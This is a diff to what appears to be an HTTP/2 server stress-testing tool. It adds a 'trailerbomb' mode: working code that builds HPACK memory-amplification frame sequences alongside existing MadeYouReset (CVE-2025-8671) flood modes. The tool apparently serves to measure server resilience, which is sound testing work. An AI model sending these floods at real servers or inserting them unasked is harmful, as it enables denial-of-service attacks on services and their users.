@@ -66,7 +66,10 @@
       followed by a WINDOW_UPDATE that overflows the stream's window, a
       stream error the server answers with RST_STREAM: CVE-2025-8671) or
       "madeyoureset-data" (the same with a DATA frame on the half-closed
-      stream instead).  Prints "closed=yes|no sent=all|part goaway=CODE|none
+      stream instead) or "trailerbomb" (a 4,000-byte field put into the
+      HPACK table once, then per group a request without END_STREAM and
+      its trailers: a HEADERS and 8 CONTINUATION frames each full of
+      one-byte indexes naming that field, 147 KB naming 590 MB).  Prints "closed=yes|no sent=all|part goaway=CODE|none
       streams=S rss_kb=R cpu_ms=C": whether the server closed the
       connection, whether all N went out before it did, the GOAWAY's error
       code, the streams it took in (from the GOAWAY's last stream id), the
@@ -668,6 +671,18 @@ def flood_frames(kind, n):
             else:
                 bad = frame(0, 0, sid, b"x")
             yield frame(1, 0x5, sid, block) + bad
+        return
+    if kind == "trailerbomb":
+        # literal with incremental indexing, new name "x-a", 4000 bytes
+        # (0x7f, then 0xa1 0x1e): dynamic table entry 62 (0xbe)
+        yield frame(1, 0x5, 1, request_block("/") + b"\x40\x03x-a\x7f\xa1\x1e" + b"a" * 4000)
+        for i in range(1, n + 1):
+            sid = 1 + 2 * i
+            group = frame(1, 0x4, sid, request_block("/"))  # END_HEADERS only
+            group += frame(1, 0x1, sid, b"\xbe" * 16384)  # trailers: END_STREAM only
+            for k in range(8):
+                group += frame(9, 0x4 if k == 7 else 0, sid, b"\xbe" * 16384)
+            yield group
         return
     yield frame(1, 0x1, 1, request_block("/"))  # END_STREAM, no END_HEADERS
     # literal without indexing, new name "x-big", 16,000-byte value (length
